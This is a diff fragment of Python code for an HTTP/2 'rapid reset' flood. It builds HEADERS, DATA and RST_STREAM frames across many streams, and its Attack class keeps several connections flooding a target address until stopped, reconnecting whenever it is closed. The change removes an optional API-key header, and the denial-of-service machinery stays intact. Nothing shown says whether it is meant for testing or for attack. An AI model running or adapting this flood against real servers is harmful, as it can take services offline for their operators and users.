@@ -17,8 +17,8 @@ CALL = ((":method", "POST"), (":scheme", "http"),
 FIELD = field("x" * 60, "y" * 60)
 
 
-def call_headers(*more):
-    return b"".join(field(*pair) for pair in CALL + more)
+def call_headers():
+    return b"".join(field(*pair) for pair in CALL)
 
 
 EMPTY_MESSAGE = b"\0\0\0\0\0"
@@ -29,8 +29,8 @@ def streams(make, first=1, count=FIRST_STREAMS):
     return b"".join(make(id) for id in range(first, first + 2 * count, 2))
 
 
-def rapid_resets(first, *more):
-    headers = call_headers(*more)
+def rapid_resets(first):
+    headers = call_headers()
     return streams(lambda id: frame(HEADERS, END_HEADERS, id, headers)
                    + frame(DATA, END_STREAM, id, EMPTY_MESSAGE)
                    + frame(RST_STREAM, 0, id, struct.pack(">I", CANCEL)), first)
@@ -79,13 +79,10 @@ class Attack:
     """Connections that each send a flood until stopped; connects again when it
     is closed."""
 
-    def __init__(self, address, name, connections=8, tls=None, key=None):
+    def __init__(self, address, name, connections=8, tls=None):
         host, port = address.rsplit(":", 1)
         self._address = (host.strip("[]"), int(port))
         self._begin, self._flood = FLOODS[name]
-        if key is not None:
-            self._flood = lambda first: rapid_resets(
-                first, ("x-api-key", key))
         self._tls = tls
         self._stop = threading.Event()
         self.bytes = 0
